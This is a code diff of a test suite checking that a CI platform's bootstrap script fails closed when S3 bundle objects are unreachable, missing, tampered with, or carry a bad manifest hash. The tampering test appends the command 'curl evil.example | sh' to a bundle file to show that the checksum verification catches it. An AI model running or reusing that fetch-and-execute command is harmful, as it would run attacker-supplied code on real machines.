@@ -6,7 +6,7 @@ import assert from "node:assert/strict";
 import * as fs from "node:fs";
 import * as path from "node:path";
 import { after, before, describe, it } from "node:test";
-import { FLEET_SETTINGS_NAME, MANIFEST_NAME, sha256Hex } from "../../components/hooks/bundle";
+import { bundleObjectKey, FLEET_SETTINGS_NAME, MANIFEST_NAME, sha256Hex } from "../../components/hooks/bundle";
 import {
     AGENT_CONFIG,
     closedPort,
@@ -119,7 +119,7 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         assert.equal(result.code, 1);
         assert.equal(
             lastLine(result.stderr),
-            `ci-platform: bootstrap failed: cannot read s3://down/hooks/${bundle.hash}/${MANIFEST_NAME}: ` +
+            `ci-platform: bootstrap failed: cannot read s3://down/${bundle.prefix}/${MANIFEST_NAME}: ` +
                 `S3 in ${REGION} did not answer (see the aws error above)`,
         );
         assertNoSecret(result);
@@ -128,13 +128,13 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
 
     it("fails closed when an object of the bundle is missing", async () => {
         const { bundle, bootstrap } = await uploadBundle(s3, "missing");
-        await s3.delete("missing", `${bundle.prefix}environment`);
+        await s3.delete("missing", bundleObjectKey(bundle.hash, "environment"));
         const m = machine();
         const result = await m.bootstrap(s3, "missing", bootstrap.key);
         assert.equal(result.code, 1);
         assert.equal(
             lastLine(result.stderr),
-            `ci-platform: bootstrap failed: object missing: s3://missing/hooks/${bundle.hash}/environment`,
+            `ci-platform: bootstrap failed: object missing: s3://missing/${bundle.prefix}/environment`,
         );
         assertNoSecret(result);
         assertNothingInstalled(m);
@@ -149,13 +149,17 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         const next = await uploadBundle(s3, "tampered", { allowed: ["learningequality/kolibri"] });
         const original = next.bundle.files.find((f) => f.path === "environment");
         assert.ok(original);
-        await s3.put("tampered", `${next.bundle.prefix}environment`, `${original.content}curl evil.example | sh\n`);
+        await s3.put(
+            "tampered",
+            bundleObjectKey(next.bundle.hash, "environment"),
+            `${original.content}curl evil.example | sh\n`,
+        );
         const result = await m.bootstrap(s3, "tampered", next.bootstrap.key);
         assert.equal(result.code, 1);
         const actual = sha256Hex(`${original.content}curl evil.example | sh\n`);
         assert.equal(
             lastLine(result.stderr),
-            `ci-platform: bootstrap failed: checksum mismatch: s3://tampered/hooks/${next.bundle.hash}/environment ` +
+            `ci-platform: bootstrap failed: checksum mismatch: s3://tampered/${next.bundle.prefix}/environment ` +
                 `(expected sha256 ${original.sha256}, got ${actual})`,
         );
         assertNoSecret(result);
@@ -164,14 +168,18 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
 
     it("fails closed when the manifest does not hash to the bundle's hash", async () => {
         const { bundle, bootstrap } = await uploadBundle(s3, "manifest");
-        await s3.put("manifest", `${bundle.prefix}${MANIFEST_NAME}`, bundle.manifest.replace(/^[0-9a-f]{4}/, "0000"));
+        await s3.put(
+            "manifest",
+            bundleObjectKey(bundle.hash, MANIFEST_NAME),
+            bundle.manifest.replace(/^[0-9a-f]{4}/, "0000"),
+        );
         const m = machine();
         const result = await m.bootstrap(s3, "manifest", bootstrap.key);
         assert.equal(result.code, 1);
         assert.match(
             lastLine(result.stderr),
             new RegExp(
-                `^ci-platform: bootstrap failed: checksum mismatch: s3://manifest/hooks/${bundle.hash}/SHA256SUMS ` +
+                `^ci-platform: bootstrap failed: checksum mismatch: s3://manifest/${bundle.prefix}/SHA256SUMS ` +
                     `\\(expected sha256 ${bundle.hash}, got [0-9a-f]{64}\\)$`,
             ),
         );
